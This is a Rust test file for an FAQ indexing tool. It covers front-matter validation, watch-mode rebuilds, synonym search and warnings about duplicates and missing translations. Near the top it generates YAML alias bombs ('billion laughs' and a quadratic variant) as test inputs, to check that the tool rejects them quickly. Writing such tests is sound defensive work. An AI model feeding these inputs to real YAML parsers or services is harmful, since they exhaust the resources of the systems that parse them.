/// One anchor of 100,000 values aliased 100,000 times (600 KB, under the size limit):
/// serde_norway's repetition limit lets it through, and it ran for minutes.
fn quadratic_laughs() -> String {
    let n = 100_000;
    format!(
        "---\ntitle: Laughs\nall: &all [{}]\ntags: [{}]\n---\nBody.\n",
        vec!["1"; n].join(","),
        vec!["*all"; n].join(",")
    )
}

#[test]
fn yaml_alias_bombs_are_refused_at_once_naming_the_file_and_line() {
    for (name, text, line, alias) in [
        ("laughs.md", billion_laughs(), 4, "`*a0`, and 81 more"),
        (
            "quadratic.md",
            quadratic_laughs(),
            4,
            "`*all`, and 99999 more",
        ),
    ] {
        let (_tmp, dir, run) = {
            let tmp = TempDir::new().unwrap();
            let dir = tmp.path().join("articles");
            write(&dir.join(name), &text);
            let started = Instant::now();
            let run = faq_indexer_within(
                Duration::from_secs(30),
                [OsStr::new("check"), dir.as_os_str()],
            );
            assert!(
                started.elapsed() < Duration::from_secs(5),
                "{name} took {:?}",
                started.elapsed()
            );
            (tmp, dir, run)
        };
        run.assert_code(1).assert_finding(
            &dir.join(name),
            line,
            "error",
            &format!("front matter uses YAML aliases ({alias}); write the values out"),
        );
    }
}

/// serde_norway's parser reads a tab right after `:`, the scan's parser (saphyr-parser)
/// stops there. What the scan cannot read is refused as it is, so aliases after that
/// point are never handed on to be expanded.
#[test]
fn a_bomb_behind_text_the_scan_cannot_read_is_refused_at_once() {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join("articles");
    let text = quadratic_laughs().replacen("title: Laughs", "title:\tLaughs", 1);
    write(&dir.join("tab.md"), &text);
    let started = Instant::now();
    let run = faq_indexer_within(
        Duration::from_secs(30),
        [OsStr::new("check"), dir.as_os_str()],
    );
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    run.assert_code(1).assert_finding(
        &dir.join("tab.md"),
        2,
        "error",
        "bad YAML in front matter: ':' must be followed by a valid YAML whitespace",
    );
    assert!(run.stderr.contains("1 error(s)"), "{}", run.stderr);
}

#[test]
fn anchors_and_aliases_in_plain_text_are_explained() {
    let (_tmp, dir, run) = check_files(&[
        ("anchor.md", "---\nid: anchor\ntitle: &Co returns\n---\nAn answer.\n"),
        ("bold.md", "---\nid: bold\ntitle: *New* returns policy\n---\nAn answer.\n"),
        (
            "fine.md",
            "---\ntitle: \"*New*: R&D, fish & chips, 20% off *today*\"\ncategory: Fish & chips\n---\nAn answer.\n",
        ),
    ]);
    run.assert_code(1)
        .assert_finding(
            &dir.join("anchor.md"),
            3,
            "error",
            "front matter uses a YAML anchor (`&Co`), which articles do not need; remove it (text that starts with `&` goes in quotes)",
        )
        .assert_finding(
            &dir.join("bold.md"),
            3,
            "error",
            "front matter uses YAML aliases (`*New*`); write the values out (text that starts with `*` goes in quotes)",
        );
    assert!(
        run.stderr.contains("2 error(s), 0 warning(s)"),
        "{}",
        run.stderr
    );
}

// ---------------------------------------------------------------------------------------
// Watch mode
// ---------------------------------------------------------------------------------------

/// `faq-indexer build --watch` running in the background, with what it printed so far;
/// killed when dropped.
struct Watching {
    child: std::process::Child,
    stderr: std::sync::Arc<std::sync::Mutex<String>>,
}

impl Watching {
    fn start(inputs: &[&Path], out: &Path) -> Watching {
        let mut child = Command::new(env!("CARGO_BIN_EXE_faq-indexer"))
            .arg("build")
            .args(inputs)
            .arg("--out")
            .arg(out)
            .args(["--no-precompress", "--watch"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("cannot run faq-indexer");
        let mut pipe = child.stderr.take().unwrap();
        let stderr = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
        let kept = stderr.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok(n) = pipe.read(&mut buf) {
                if n == 0 {
                    break;
                }
                kept.lock()
                    .unwrap()
                    .push_str(&String::from_utf8_lossy(&buf[..n]));
            }
        });
        Watching { child, stderr }
    }

    /// Waits until stderr has said `text` `times` times in all.
    fn said(&self, text: &str, times: usize) -> String {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let said = self.stderr.lock().unwrap().clone();
            if said.matches(text).count() >= times {
                return said;
            }
            assert!(
                Instant::now() < deadline,
                "`{text}` not said {times} times within 20 s:\n{said}"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Watching {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The English bundle's file name in `out`'s manifest.
fn english_bundle(out: &Path) -> String {
    manifest(out)["locales"]["en"]["file"]
        .as_str()
        .unwrap()
        .to_string()
}

#[test]
fn watch_builds_on_every_edit_and_keeps_the_last_good_index_on_a_broken_one() {
    let tmp = TempDir::new().unwrap();
    let (articles, csv) = fixture(tmp.path());
    let out = tmp.path().join("out");
    let watching = Watching::start(&[&articles, &csv], &out);
    watching.said("watching for changes", 1);
    let first = english_bundle(&out);

    // An edit: a new bundle, found by the widget's search.
    write(
        &articles.join("returns.md"),
        &RETURNS.replace("30 days", "45 days"),
    );
    watching.said("watching for changes", 2);
    let edited = english_bundle(&out);
    assert_ne!(edited, first, "the edit did not reach the index");
    let found = search(&out, ["--json", "45 days"]);
    assert!(found.stdout.contains("returns"), "{}", found.stdout);

    // A broken edit: its error at file:line, and the last good index stays.
    let good = snapshot(&out);
    write(
        &articles.join("returns.md"),
        "---\nid: returns\ntitle: \"Unclosed\ncategory: Orders\n---\nBody.\n",
    );
    let said = watching.said("watching for changes", 3);
    let broken = articles.join("returns.md");
    assert!(
        said.lines()
            .any(|l| l.starts_with(&format!("{}:", broken.display())) && l.contains("error")),
        "no file:line error in:\n{said}"
    );
    assert!(said.contains("the last good index"), "{said}");
    assert_eq!(snapshot(&out), good, "a broken edit changed the index");

    // Fixed: built again. Editors' swap files and the output's own writes never build.
    write(&articles.join(".returns.md.swp"), "swap");
    write(&articles.join("returns.md"), RETURNS);
    let said = watching.said("watching for changes", 4);
    assert_eq!(
        english_bundle(&out),
        first,
        "the same content, the same bundle"
    );
    assert_eq!(said.matches("building again").count(), 3, "{said}");
}

// ---------------------------------------------------------------------------------------
// Synonyms
// ---------------------------------------------------------------------------------------

/// The ids `search` returns for `query`, best first.
fn found(out: &Path, query: &str) -> Vec<String> {
    let run = search(out, ["--json", query]);
    json_line(run.stdout.lines().next().unwrap_or_default())
        .1
        .into_iter()
        .map(|(id, _, _)| id)
        .collect()
}

#[test]
fn synonyms_find_an_article_by_words_it_never_uses() {
    let tmp = TempDir::new().unwrap();
    let (articles, csv) = fixture(tmp.path());
    let out = tmp.path().join("out");
    build(&[&articles, &csv], &out).assert_code(0);
    // "reimbursement" is nowhere in the articles; the returns article says "refund".
    assert!(
        !found(&out, "reimbursement").contains(&"returns".to_string()),
        "{:?}",
        found(&out, "reimbursement")
    );

    write(
        &articles.join("synonyms.yaml"),
        "en:\n  - refund = money back = reimbursement\n  - voucher = coupon\n",
    );
    build(&[&articles, &csv], &out).assert_code(0);
    assert_eq!(
        found(&out, "reimbursement").first().map(String::as_str),
        Some("returns")
    );
    assert_eq!(
        found(&out, "money back").first().map(String::as_str),
        Some("returns")
    );
    // A phrase: "coupon" finds the gift card article, which says "voucher" (a CSV row).
    assert_eq!(
        found(&out, "coupon").first().map(String::as_str),
        Some("gift-cards")
    );
    // Typing a synonym completes it, as with the articles' own words.
    assert_eq!(
        found(&out, "reimburs").first().map(String::as_str),
        Some("returns")
    );
}

#[test]
fn check_reports_synonyms_that_never_apply_and_mistakes_at_their_line() {
    let tmp = TempDir::new().unwrap();
    let (articles, csv) = fixture(tmp.path());
    let synonyms = write(
        &articles.join("synonyms.yaml"),
        "en:\n  - refund = reimbursement\n  - layaway = lay by\n",
    );
    check(&[&articles, &csv]).assert_code(0).assert_finding(
        &synonyms,
        3,
        "warning",
        "\"layaway\", \"lay by\"",
    );

    write(&synonyms, "en:\n  - refund = reimbursement\n  - refund\n");
    let out = tmp.path().join("out");
    let run = build(&[&articles, &csv], &out);
    run.assert_code(1)
        .assert_finding(&synonyms, 3, "error", "separated by `=`");
    assert!(!out.exists(), "a broken synonyms file wrote an index");
}

// ---------------------------------------------------------------------------------------
// Warnings about the content as a whole
// ---------------------------------------------------------------------------------------

#[test]
fn check_warns_about_near_duplicates_and_missing_translations() {
    let article = |id: &str, locale: &str, title: &str, question: &str| {
        format!(
            "---\nid: {id}\nlocale: {locale}\ntitle: \"{title}\"\nquestions:\n  - \"{question}\"\n---\nThe answer.\n"
        )
    };
    let (_tmp, dir, run) = check_files(&[
        (
            "returns.md",
            &article(
                "returns",
                "en",
                "How do I return an item?",
                "Can I send it back?",
            ),
        ),
        (
            "returning.md",
            &article("returning", "en", "Returning items", "Is there a form?"),
        ),
        (
            "shipping.md",
            &article(
                "shipping",
                "en",
                "Delivery times",
                "How do I return an item",
            ),
        ),
        (
            "de/returns.md",
            &article("returns", "de", "Wie sende ich etwas zurück?", "Retoure?"),
        ),
    ]);
    // Files are read in name order: `returning.md` is the first of the two titles.
    run.assert_code(0)
        .assert_finding(
            &dir.join("returns.md"),
            1,
            "warning",
            "says what the title of `returning` says",
        )
        .assert_finding(
            &dir.join("shipping.md"),
            6,
            "warning",
            "\"How do I return an item\" says what the title of `returning`",
        )
        .assert_finding(
            &dir.join("returning.md"),
            1,
            "warning",
            "`returning` has no de version",
        )
        .assert_finding(
            &dir.join("shipping.md"),
            1,
            "warning",
            "`shipping` has no de version",
        );
    assert!(run.stderr.contains("4 warning(s)"), "{}", run.stderr);
}
